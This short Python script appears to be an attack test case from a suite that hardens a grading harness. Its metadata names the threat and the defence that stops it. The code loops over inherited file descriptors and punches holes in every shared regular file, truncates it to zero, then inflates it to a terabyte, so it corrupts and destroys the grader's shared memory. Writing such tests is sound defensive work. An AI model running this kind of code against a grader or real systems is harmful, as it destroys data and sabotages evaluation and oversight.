"""Cuts and grows every memory that it shares with the grader, and punches holes into it."""
# /// attack
# threat = "malformed frames"
# stopped_by = "the size of shared memory is sealed"
# base = "right"
# score = 10
# ///

import ctypes
import os
import stat

for descriptor in range(3, 64):
    try:
        if stat.S_ISREG(os.fstat(descriptor).st_mode):
            ctypes.CDLL(None).fallocate(descriptor, 3, 0, ctypes.c_long(1 << 20))
            os.ftruncate(descriptor, 0)
            os.ftruncate(descriptor, 1 << 40)
    except OSError:
        pass
